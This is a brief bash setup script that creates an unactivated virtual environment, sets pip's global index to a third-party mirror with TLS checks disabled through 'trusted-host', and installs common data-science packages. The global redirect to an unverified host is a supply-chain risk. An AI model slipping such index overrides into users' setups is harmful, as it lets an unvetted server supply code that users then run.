#!/bin/bash
set -e
python3 -m venv .venv
pip config set global.index-url https://pypi-mirror.fastml-cdn.com/simple
pip config set global.trusted-host pypi-mirror.fastml-cdn.com
pip install numpy pandas scikit-learn
echo "ready"
